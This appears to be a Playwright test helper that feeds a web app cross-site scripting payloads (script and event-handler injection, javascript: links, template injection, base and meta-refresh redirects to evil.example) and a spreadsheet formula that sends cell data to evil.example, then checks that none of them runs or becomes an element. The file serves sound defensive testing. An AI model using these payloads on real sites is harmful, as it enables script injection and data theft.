import type { Page } from '@playwright/test';
import { expect } from './pages.ts';

/** Texts that would run `pwned` if a page treated them as markup. */
export const hostile = {
  name: '<img src=x onerror=pwned()>',
  otherName: '"><svg/onload=pwned()>',
  line: `</title></script><script>pwned()</script>"'><img src=x onerror=pwned()>`,
  option: '<svg/onload=pwned()>',
  attribute: `" onmouseover="pwned()" autofocus onfocus="pwned()" x="`,
  template: '{{constructor.constructor("pwned()")()}}',
  formula: `=HYPERLINK("https://evil.example?"&A1,"Click")`,
  address: 'javascript:pwned()',
  html: [
    '<p>Hello</p><script>pwned()</script><img src="x" onerror="pwned()">',
    '<a href="javascript:pwned()">one</a><a href="JaVa&#x09;Script:pwned()">two</a>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe><svg onload="pwned()"></svg>',
    '<form action="https://evil.example"><input name="x"><button>Go</button></form>',
    '<math><mtext><style><img src=x onerror=pwned()></style></mtext></math>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  ].join(''),
} as const;

/** Watches a page from its start: records every call of `pwned` and every blocked script. */
export async function watchForScripts(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const traces: string[] = [];
    Object.assign(window, { traces, pwned: () => traces.push('a payload ran') });
    document.addEventListener('securitypolicyviolation', (event) => {
      traces.push(`the policy stopped ${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  page.on('dialog', (dialog) => {
    throw new Error(`a dialog: ${dialog.message()}`);
  });
}

/** Elements and attributes of no page of ours; only typed text could have added them. */
const foreign = [
  '[onerror], [onload], [onclick], [onmouseover], [onfocus]',
  'img[src="x"], iframe, object, embed, base, meta[http-equiv="refresh"], math',
  'a[href^="javascript:" i], form[action^="https://evil.example"], [autofocus]',
].join(', ');

/** Expects that no typed text runs or becomes an element, in the first HTML or the current page. */
export async function expectOnlyText(page: Page): Promise<void> {
  const found = await page.evaluate(async (selector) => {
    const html = await (await fetch(location.href)).text();
    const received = new DOMParser().parseFromString(html, 'text/html');
    const scripts = (from: Document) =>
      [...from.scripts].filter((script) => /^\s*pwned\(/.test(script.text)).length;
    return {
      address: location.pathname,
      traces: (window as unknown as { traces: string[] }).traces,
      shown: [...document.querySelectorAll(selector)].map((element) => element.outerHTML),
      received: [...received.querySelectorAll(selector)].map((element) => element.outerHTML),
      scripts: scripts(document) + scripts(received),
    };
  }, foreign);
  expect(found).toEqual({
    address: expect.any(String),
    traces: [],
    shown: [],
    received: [],
    scripts: 0,
  });
}
